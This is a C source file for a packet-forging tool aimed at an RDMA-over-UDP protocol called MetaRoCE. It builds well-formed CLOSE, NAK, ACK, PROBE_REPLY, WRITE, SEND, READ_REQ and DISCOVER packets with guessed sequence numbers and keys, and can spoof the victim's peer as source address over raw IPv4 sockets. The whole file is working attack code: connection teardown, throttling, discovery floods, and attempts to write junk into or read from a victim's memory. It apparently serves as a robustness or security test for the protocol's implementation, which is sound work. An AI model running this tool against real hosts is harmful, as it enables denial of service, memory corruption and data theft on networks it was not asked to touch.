/* SPDX-License-Identifier: (LGPL-2.1 OR BSD-2-Clause) */
/*
 * A forger on an admitted host: well-formed MetaRoCE packets, checksums right, from this
 * host's own address (the victim's peer), addressed to QPs whose numbers it learnt, with
 * every sequence number, nonce and key guessed. Each round sends one of every kind to each
 * QP, from a fresh source port, until ROUNDS rounds have gone or SECONDS have passed:
 *
 *   close         CLOSE (reason error): one packet ends a QP unless its cum_psn is checked
 *   nak_access    NAK remote_access: puts the requester in ERR
 *   nak_rnr       NAK rnr with the longest wait: stalls a message
 *   nak_seq       NAK seq: a rewind in baseline mode
 *   ack_throttle  ACK with a 1 kbit/s rate hint, ECE and every SACK bit: stalls, shrinks
 *   ack_unsent    cumulative ACK far ahead: acknowledges data never sent
 *   probe_reply   PROBE_REPLY with a guessed nonce: revives or confuses a path
 *   write         WRITE of junk at a guessed PSN and key: into the victim's memory
 *   send          SEND of junk at a guessed PSN: into a posted receive
 *   read_req      READ_REQ at a guessed PSN and key: the victim's memory out
 *   discover      DISCOVER in this host's daemon's name with a new node id and other planes:
 *                 a restart, every QP to this host failed, unless the victim asks back
 *
 * Off-path (-s SOURCE): from another host, spoofing SOURCE, the victim's real peer, as the
 * source address of raw IPv4 datagrams; -k KIND sends that kind alone (a DISCOVER flood);
 * -w USEC waits that long between rounds (200), to spread them over a transfer.
 *
 *   forge [-s SOURCE] [-k KIND] [-w USEC] ADDR PORT SECONDS ROUNDS QPN...
 *                        prints how many of each it sent, how fast
 */
#include <arpa/inet.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/random.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#include "proto/codec.h"

enum kind { CLOSE, NAK_ACCESS, NAK_RNR, NAK_SEQ, ACK_THROTTLE, ACK_UNSENT, PROBE_REPLY, WRITE,
	    SEND, READ_REQ, DISCOVER, KINDS };
static const char *const names[KINDS] = { "close",	  "nak_access", "nak_rnr",
					  "nak_seq",	  "ack_throttle", "ack_unsent",
					  "probe_reply", "write",	"send",
					  "read_req",	  "discover" };

static struct sockaddr_in self; /* this host's address towards the victim, or the spoofed */

static uint64_t guess(void)
{
	uint64_t v;

	if (getrandom(&v, sizeof(v), 0) != sizeof(v))
		abort();
	return v;
}

static double seconds_now(void)
{
	struct timespec t;

	clock_gettime(CLOCK_MONOTONIC, &t);
	return (double)t.tv_sec + t.tv_nsec / 1e9;
}

static void forge(struct mrc_packet *p, enum kind k, uint32_t qpn)
{
	static uint8_t junk[1024];

	memset(junk, 0x5a, sizeof(junk));
	memset(p, 0, sizeof(*p));
	p->dst_qpn = qpn;
	p->tx_ts = (uint32_t)guess();
	switch (k) {
	case CLOSE:
		p->opcode = MRC_OP_CLOSE;
		p->u.close.reason = MRC_CLOSE_ERROR;
		p->u.close.cum_psn = (uint32_t)guess();
		break;
	case NAK_ACCESS:
	case NAK_RNR:
	case NAK_SEQ:
		p->opcode = MRC_OP_NAK;
		p->u.nak.kind = k == NAK_ACCESS ? MRC_NAK_REMOTE_ACCESS :
				k == NAK_RNR	? MRC_NAK_RNR :
						  MRC_NAK_SEQ;
		p->u.nak.cum_psn = (uint32_t)guess();
		p->u.nak.nak_psn = p->u.nak.cum_psn + (uint32_t)(guess() % 64);
		p->u.nak.msn = (uint32_t)guess() % 16;
		p->u.nak.retry_after = k == NAK_RNR ? 65535 : 0;
		break;
	case ACK_THROTTLE:
	case ACK_UNSENT:
		p->opcode = MRC_OP_ACK;
		p->flags = k == ACK_THROTTLE ? MRC_F_ECE : 0;
		p->u.ack.cum_psn = (uint32_t)guess();
		p->u.ack.rate_hint_kbps = k == ACK_THROTTLE ? 1 : 0;
		p->u.ack.echo_path = (uint16_t)(guess() % 8);
		if (k == ACK_THROTTLE) {
			memset(p->u.ack.sack, 0xff, sizeof(p->u.ack.sack));
			p->u.ack.sack[0] &= 0xfe; /* bit 0 is cum_psn itself */
		}
		break;
	case PROBE_REPLY:
		p->opcode = MRC_OP_PROBE_REPLY;
		p->u.probe.nonce = guess();
		p->u.probe.echo_path = (uint16_t)(guess() % 8);
		break;
	case WRITE:
	case SEND:
		p->opcode = k == WRITE ? MRC_OP_WRITE : MRC_OP_SEND;
		p->psn = (uint32_t)guess();
		p->path_id = (uint16_t)(guess() % 8);
		p->u.data.msn = (uint32_t)guess() % 64;
		p->u.data.rsn = k == SEND ? (uint32_t)guess() % 64 : 0;
		p->u.data.msg_len = sizeof(junk);
		p->u.data.rkey = k == WRITE ? (uint32_t)guess() : 0;
		p->u.data.raddr = k == WRITE ? guess() : 0;
		p->payload = junk;
		p->payload_len = sizeof(junk);
		break;
	case READ_REQ:
		p->opcode = MRC_OP_READ_REQ;
		p->psn = (uint32_t)guess();
		p->u.read_req.msn = (uint32_t)guess() % 64;
		p->u.read_req.length = 4096;
		p->u.read_req.rkey = (uint32_t)guess();
		p->u.read_req.raddr = guess();
		p->u.read_req.sink_key = (uint32_t)guess();
		p->u.read_req.sink_addr = guess();
		break;
	case DISCOVER:
		p->opcode = MRC_OP_DISCOVER;
		p->dst_qpn = 0;
		p->psn = (uint32_t)guess() | 1;
		p->u.discover.node_id = guess();
		p->u.discover.udp_port = MRC_UDP_PORT_DEFAULT;
		p->u.discover.max_payload = 1024;
		p->u.discover.n_addrs = 1;
		p->u.discover.addrs[0].family = MRC_AF_INET;
		p->u.discover.addrs[0].plane = (uint8_t)(guess() % 4);
		p->u.discover.addrs[0].addr[10] = p->u.discover.addrs[0].addr[11] = 0xff;
		memcpy(&p->u.discover.addrs[0].addr[12], &self.sin_addr, 4);
		break;
	case KINDS:
		break;
	}
}

/* The datagram from the spoofed source, IPv4 and UDP headers written here (the kernel
 * fills the IP checksum and id; a zero UDP checksum is none). */
static ssize_t send_spoofed(int raw, const struct sockaddr_in *to, uint16_t sport,
			    const uint8_t *mrc, size_t len)
{
	static uint8_t pkt[sizeof(struct iphdr) + sizeof(struct udphdr) + MRC_WIRE_MAX_PACKET];
	struct iphdr *ip = (void *)pkt;
	struct udphdr *udp = (void *)(ip + 1);
	size_t total = sizeof(*ip) + sizeof(*udp) + len;

	memset(pkt, 0, sizeof(*ip) + sizeof(*udp));
	ip->version = 4;
	ip->ihl = 5;
	ip->ttl = 64;
	ip->protocol = IPPROTO_UDP;
	ip->tot_len = htons((uint16_t)total);
	ip->saddr = self.sin_addr.s_addr;
	ip->daddr = to->sin_addr.s_addr;
	udp->source = htons(sport);
	udp->dest = to->sin_port;
	udp->len = htons((uint16_t)(sizeof(*udp) + len));
	memcpy(udp + 1, mrc, len);
	return sendto(raw, pkt, total, 0, (const struct sockaddr *)to, sizeof(*to)) ==
			       (ssize_t)total ? (ssize_t)len : -1;
}

static int kind_named(const char *name)
{
	for (int k = 0; k < KINDS; k++)
		if (!strcmp(names[k], name))
			return k;
	fprintf(stderr, "forge: no kind %s\n", name);
	exit(2);
}

int main(int argc, char **argv)
{
	struct sockaddr_in to = { .sin_family = AF_INET };
	unsigned long sent[KINDS] = { 0 }, rounds;
	uint8_t buf[MRC_WIRE_MAX_PACKET];
	double start = seconds_now(), until;
	int only = -1, raw = -1, opt;
	unsigned wait_us = 200;

	while ((opt = getopt(argc, argv, "s:k:w:")) != -1) {
		if (opt == 's' && inet_pton(AF_INET, optarg, &self.sin_addr) == 1)
			raw = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
		else if (opt == 'k')
			only = kind_named(optarg);
		else if (opt == 'w')
			wait_us = (unsigned)strtoul(optarg, NULL, 0);
		else
			raw = -2;
		if (raw == -1 && opt == 's') {
			perror("forge: a raw socket for spoofing");
			return 1;
		}
	}
	argc -= optind - 1;
	argv += optind - 1;
	if (raw == -2 || argc < 6 || inet_pton(AF_INET, argv[1], &to.sin_addr) != 1) {
		fprintf(stderr, "usage: forge [-s SOURCE] [-k KIND] [-w USEC] ADDR PORT SECONDS "
				"ROUNDS QPN...\n");
		return 2;
	}
	to.sin_port = htons((uint16_t)atoi(argv[2]));
	if (raw < 0) {
		socklen_t len = sizeof(self);
		int fd = socket(AF_INET, SOCK_DGRAM, 0);

		if (fd < 0 || connect(fd, (struct sockaddr *)&to, sizeof(to)) ||
		    getsockname(fd, (struct sockaddr *)&self, &len)) {
			perror("forge: finding this host's address");
			return 1;
		}
		close(fd);
	}
	until = seconds_now() + atof(argv[3]);
	rounds = strtoul(argv[4], NULL, 0);
	for (unsigned long r = 0; r < rounds && seconds_now() < until; r++) {
		for (int q = 5; q < argc; q++) {
			uint32_t qpn = (uint32_t)strtoul(argv[q], NULL, 0);
			/* a fresh source port each time, as a sprayed peer's packets have */
			int fd = raw >= 0 ? raw : socket(AF_INET, SOCK_DGRAM, 0);
			uint16_t sport = (uint16_t)(49152 + guess() % 16384);

			if (fd < 0) {
				perror("forge: socket");
				return 1;
			}
			for (int k = 0; k < KINDS; k++) {
				struct mrc_packet p;
				size_t len;

				if (only >= 0 && k != only)
					continue;
				forge(&p, (enum kind)k, qpn);
				if (mrc_encode(&p, buf, sizeof(buf), &len)) {
					fprintf(stderr, "forge: %s does not encode\n", names[k]);
					return 1;
				}
				if ((raw >= 0 ? send_spoofed(raw, &to, sport, buf, len)
					      : sendto(fd, buf, len, 0, (struct sockaddr *)&to,
						       sizeof(to))) == (ssize_t)len)
					sent[k]++;
			}
			if (raw < 0)
				close(fd);
		}
		usleep(wait_us); /* spread over the transfer, not one burst before it */
	}
	for (int k = 0, first = 1; k < KINDS; k++)
		if (only < 0 || k == only) {
			printf("%s%s %lu", first ? "" : ", ", names[k], sent[k]);
			first = 0;
		}
	printf(" in %.3f s\n", seconds_now() - start);
	return 0;
}
